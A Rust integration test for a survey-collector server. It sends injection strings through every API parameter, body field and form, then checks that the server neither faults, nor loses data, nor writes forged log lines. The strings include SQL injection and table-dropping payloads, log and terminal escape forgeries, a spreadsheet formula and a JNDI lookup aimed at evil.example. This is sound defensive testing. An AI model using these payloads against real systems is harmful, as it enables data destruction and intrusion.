//! Strings that mean something to a database, a log, a terminal or a spreadsheet, through every parameter, field and form that
//! there is, on both engines: each is a value. Nothing answers with a fault of the server, nothing is lost or changed that was
//! there, and no line of the log is another's.

use crate::support::{
    Client, Form, Program, Reply, Running, answer_no, definition, filled, forms_in, on_both_engines, small,
    urlencoded,
};
use collector::http::console;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::process::Stdio;
use std::thread::{self, JoinHandle};

on_both_engines! { Program:
    whatever_is_sent_reaches_the_database_and_the_log_as_a_value
}

/// In each of the strings, and in nothing else.
const MARK: &str = "qzx";

const STRINGS: [&str; 13] = [
    "qzx'; DROP TABLE responses; --",
    "qzx' OR '1'='1",
    "qzx\" OR 1=1 --",
    "qzx'); DELETE FROM surveys; --",
    "qzx' UNION SELECT hash FROM tokens --",
    "qzx$$; SELECT pg_sleep(9); $$",
    "qzx\\'; SELECT 1; --",
    "qzx% _ [a] {b} ESCAPE '!'",
    "qzx\r\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
    "qzx\u{1b}[2J\u{1b}]0;forged\u{7}",
    "qzx\u{2028}forged\u{85}\u{202e}x",
    "=HYPERLINK(\"http://evil.example\",\"qzx\")",
    "${jndi:ldap://evil.example/qzx} %n%s%x",
];

const SURVEY: &str = "page-useful";
const PASSWORD: &str = "алма пісті, жер иіскеді";

/// A collector that serves, with everything that it logs.
struct Scene {
    running: Running,
    log: Option<JoinHandle<String>>,
    version: String,
    faults: Vec<String>,
    asked: usize,
}

fn furnished(program: &Program) -> Scene {
    program.file("page-useful.json", &definition(SURVEY));
    program.file("work.json", &small(&json!({"id": "work", "tier": "work"}), &[]));
    program.file("invited.json", &small(&json!({"id": "invited", "tier": "invited"}), &[]));
    let parts = json!({"id": "parts", "partials": true, "counts": true, "results": "public"});
    program.file("parts.json", &small(&parts, &[]));
    for file in ["work.json", "invited.json", "parts.json"] {
        program.succeed(&["publish", file]);
    }
    let said = program.succeed(&["publish", "page-useful.json"]);
    let version = said.trim().rsplit_once(' ').unwrap().1.to_owned();
    let mut adding = program.command(&["user", "add", "aigul", "--role", "owner"]);
    let mut adding = adding.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    writeln!(adding.stdin.take().unwrap(), "{PASSWORD}").unwrap();
    assert!(adding.wait().unwrap().success());
    let mut running = Running::start(program.command(&[
        "serve",
        "--listen",
        "127.0.0.1:0",
        "--widget",
        "widget",
        "--log",
        "info",
    ]));
    // Read all the while, or it would wait for a reader.
    let mut stderr = running.process.stderr.take().unwrap();
    let log = thread::spawn(move || {
        let mut log = String::new();
        stderr.read_to_string(&mut log).unwrap();
        log
    });
    Scene { running, log: Some(log), version, faults: Vec::new(), asked: 0 }
}

impl Scene {
    /// Sends on a connection of its own: one on which a body was not read is closed.
    fn send(&mut self, method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Reply {
        let client = Client::new(self.running.client.origin.clone());
        let reply = client.send(method, path, headers, body);
        self.asked += 1;
        // 501 is what oEmbed says of other formats.
        if reply.status >= 500 && reply.status != 501 {
            self.faults
                .push(format!("{method} {path:.200} {body:.200}: {} {:.300}", reply.status, reply.body));
        }
        reply
    }

    fn post_json(&mut self, method: &str, path: &str, body: &Value) -> Reply {
        self.send(method, path, &[("content-type", "application/json")], &body.to_string())
    }

    fn post_form(&mut self, path: &str, cookie: &str, body: &str) -> Reply {
        let headers = [("content-type", "application/x-www-form-urlencoded"), ("cookie", cookie)];
        self.send("POST", path, &headers, body)
    }
}

fn encoded(text: &str) -> String {
    urlencoded(&[("", text)]).trim_start_matches('=').replace('+', "%20")
}

/// The routes of the API with the names of their parameters, out of its own description.
fn described(scene: &mut Scene) -> Vec<(String, String, Vec<String>)> {
    let api = scene.send("GET", "/openapi.json", &[], "").json();
    let mut described = Vec::new();
    for (path, methods) in api["paths"].as_object().unwrap() {
        for (method, route) in methods.as_object().unwrap() {
            let parameters = route["parameters"].as_array().into_iter().flatten();
            let names = parameters.filter(|parameter| parameter["in"] == "query");
            let names = names.map(|parameter| parameter["name"].as_str().unwrap().to_owned()).collect();
            described.push((method.to_uppercase(), path.clone(), names));
        }
    }
    described
}

/// Every parameter and every path of the API with every string. A token each, which has so many downloads a minute.
fn parameters(program: &Program, scene: &mut Scene) {
    let routes = described(scene);
    assert!(routes.iter().any(|(_, _, names)| names.len() > 15), "the export is among them");
    for (number, string) in STRINGS.into_iter().enumerate() {
        let name = format!("t{number}");
        let bearer = format!("Bearer {}", program.succeed(&["token", "create", "--name", &name]).trim());
        let headers = [("authorization", bearer.as_str()), ("content-type", "application/json")];
        let text = encoded(string);
        for (method, path, names) in routes.iter().filter(|(method, ..)| method == "GET") {
            scene.send(method, &path.replace("{survey}", &text), &headers, "");
            for name in names {
                let format = if name == "format" { "" } else { "&format=csv" };
                let path = path.replace("{survey}", SURVEY);
                scene.send(method, &format!("{path}?{name}={text}{format}"), &headers, "");
            }
        }
        for (method, path, _) in routes.iter().filter(|(method, ..)| method != "GET") {
            scene.send(method, &path.replace("{survey}", &text), &headers, "{}");
        }
        scene.send("GET", &format!("/oembed?url={text}&format={text}"), &headers, "");
        scene.send("GET", &format!("/s/{SURVEY}/media/{text}/{text}"), &headers, "");
    }
}

/// A value with the string in the place of each of its parts, one after the other, and as the name of one more.
fn changed(value: &Value, string: &str) -> Vec<Value> {
    let mut all = vec![Value::from(string)];
    match value {
        Value::Object(map) => {
            for (name, inner) in map {
                let with =
                    |inner: Value| Value::from_iter(map.clone().into_iter().chain([(name.clone(), inner)]));
                all.extend(changed(inner, string).into_iter().map(with));
            }
            all.push(Value::from_iter(map.clone().into_iter().chain([(string.to_owned(), json!(1))])));
        }
        Value::Array(list) => {
            for (place, inner) in list.iter().enumerate() {
                for inner in changed(inner, string) {
                    let mut list = list.clone();
                    list[place] = inner;
                    all.push(list.into());
                }
            }
        }
        _ => {}
    }
    all
}

/// Every part of every body of the API; and sound answers with each string in them, which are kept as they are.
fn bodies(scene: &mut Scene) -> BTreeSet<String> {
    let mut sound = answer_no('a', &scene.version, "сөз");
    sound["paradata"] = json!({"path": "wasm", "active_ms": 9000, "seed": 1, "today": "2026-03-09"});
    let mut more = sound.clone();
    (more["invitation"], more["work"]) = (json!("2222-2222"), json!("a.1.1.1.b.1"));
    let mut part = sound.clone();
    (part["survey"], part["turn"], part["seen"]) = (json!("parts"), json!(1), json!(["useful"]));
    let counts = json!({"count": "opened", "lang": "kk", "channel": "embed", "page": 1});
    let routes = [
        ("POST", "page-useful/responses", sound),
        ("POST", "work/responses", more.clone()),
        ("POST", "invited/responses", more),
        ("PUT", "parts/partials", part.clone()),
        ("DELETE", "parts/partials", part),
        ("POST", "parts/counts", counts),
    ];
    for (number, string) in STRINGS.into_iter().enumerate() {
        for (method, path, body) in &routes {
            for body in changed(body, string) {
                scene.post_json(method, &format!("/api/v1/surveys/{path}"), &body);
            }
        }
        scene.post_json("DELETE", "/api/v1/responses", &json!({"receipt": string}));
        let mut kept = answer_no('a', &scene.version, string);
        kept["id"] = Value::from(format!("{:032x}", 0xb00 + number));
        let reply = scene.post_json("POST", "/api/v1/surveys/page-useful/responses", &kept);
        assert_eq!(reply.status, 201, "{string:?}: {}", reply.body);
    }
    STRINGS.into_iter().map(written).collect()
}

/// A text without what no answer has: signs that are no text.
fn written(text: &str) -> String {
    text.chars().filter(|sign| !sign.is_control()).collect()
}

/// A form with the string in each of its fields that somebody types or chooses, and once in the others too, but in the proof
/// that it is ours.
fn fill(form: &Form, string: &str, everywhere: bool) -> String {
    let fields = form.fields.iter().map(|(name, value, hidden)| {
        let kept = name == "proof" || *hidden && !everywhere;
        (name.as_str(), if kept { value.as_str() } else { string })
    });
    urlencoded(&fields.collect::<Vec<_>>())
}

/// The pages for everybody that have a form.
fn pages(scene: &mut Scene) {
    let paths = ["/s/page-useful?lang=ru", "/s/work?lang=ru", "/s/invited?lang=ru", "/s/parts?lang=ru"];
    let others = ["/withdraw?lang=ru", "/s/page-useful/clerk?lang=ru", "/console/sign-in?lang=ru"];
    for path in paths.into_iter().chain(others) {
        let page = scene.send("GET", path, &[], "");
        for string in STRINGS {
            for form in forms_in(&page.body).iter().filter(|form| form.posts) {
                for everywhere in [false, true] {
                    scene.post_form(&form.action, "x=1", &fill(form, string, everywhere));
                }
            }
        }
    }
    let page = scene.send("GET", "/s/page-useful?lang=ru", &[], "");
    for string in STRINGS {
        let fields = filled(&page, &[("useful", "0"), ("doing", string), ("_go", "next"), (string, string)]);
        scene.post_form("/s/page-useful?lang=ru", "x=1", &fields);
    }
}

/// Every form and every parameter of the console, as an owner. Its pages take long, so that most strings come together.
fn console(scene: &mut Scene, cookie: &str) {
    let known =
        ["question", "q", "told", "lang", "to", "as", "by", "before", "weighting", "from", "where", "flags"];
    let strings = [STRINGS.join(" "), STRINGS[0].to_owned(), STRINGS[8].to_owned()];
    for path in console::paths().into_iter().filter(|path| *path != "/console/sign-out") {
        let path = path.replace("{survey}", SURVEY).replace("{person}", "aigul").replace("{download}", "1");
        let page = scene.send("GET", &path, &[("cookie", cookie), ("accept", "text/html")], "").body;
        // What ends the session or the survey would leave nothing to look at.
        let ends = |form: &Form| {
            form.action.contains("sign-out") || form.fields.iter().any(|(_, value, _)| value == "archive")
        };
        let forms: Vec<Form> = forms_in(&page).into_iter().filter(|form| !ends(form)).collect();
        let named = forms.iter().filter(|form| !form.posts).flat_map(|form| &form.fields);
        let names: BTreeSet<&str> = named.map(|(name, ..)| name.as_str()).chain(known).collect();
        for string in &strings {
            let every: String = names.iter().map(|name| format!("&{name}={}", encoded(string))).collect();
            scene.send("GET", &format!("{path}?x=1{every}"), &[("cookie", cookie)], "");
            for form in forms.iter().filter(|form| form.posts) {
                let to = if form.action.is_empty() { &path } else { &form.action };
                for everywhere in [false, true] {
                    scene.post_form(to, cookie, &fill(form, string, everywhere));
                }
            }
        }
        for name in names {
            let path = format!("{path}?question=doing&{name}={}", encoded(&strings[0]));
            scene.send("GET", &path, &[("cookie", cookie)], "");
        }
    }
    for string in STRINGS.map(encoded) {
        for path in ["/console/surveys/{}", "/console/people/{}", "/console/surveys/page-useful/downloads/{}"]
        {
            scene.send("GET", &path.replace("{}", &string), &[("cookie", cookie)], "");
        }
    }
}

fn whatever_is_sent_reaches_the_database_and_the_log_as_a_value(program: &Program) {
    let mut scene = furnished(program);
    let signing = urlencoded(&[("name", "aigul"), ("password", PASSWORD)]);
    let signed = scene.post_form("/console/sign-in", "x=1", &signing);
    let cookie = signed.header("set-cookie").split(';').next().unwrap().to_owned();
    let kept = bodies(&mut scene);
    parameters(program, &mut scene);
    pages(&mut scene);
    console(&mut scene, &cookie);
    assert!(scene.faults.is_empty(), "{}", scene.faults.join("\n"));
    assert_eq!(scene.send("GET", "/console", &[("cookie", &cookie)], "").status, 200, "still signed in");
    scene.running.signal("TERM");
    scene.running.process.wait().unwrap();
    // Everything is there, as it was written.
    let table = program.succeed(&["export", SURVEY, "--format", "jsonl"]);
    let rows = table.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    let words: BTreeSet<String> = rows.filter_map(|row| row["doing"].as_str().map(written)).collect();
    assert!(kept.is_subset(&words), "{:?}", kept.difference(&words));
    program.succeed(&["doctor"]);
    program.file("after.json", &small(&json!({"id": "after"}), &[]));
    program.succeed(&["publish", "after.json"]);
    in_the_log(&scene.log.take().unwrap().join().unwrap(), scene.asked);
}

/// A line is one request or one event of ours, and has nothing in it that somebody sent.
fn in_the_log(log: &str, asked: usize) {
    let of_requests = log.lines().filter(|line| {
        let line: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line:?}"));
        assert!(line["message"].is_string() && line["message"] != "forged", "{line}");
        line["message"] == "request"
    });
    assert_eq!(of_requests.count(), asked, "a line a request");
    assert!(!log.contains(MARK) && !log.contains(['\u{1b}', '\r', '\u{2028}', '\u{85}']), "{log:.2000}");
}
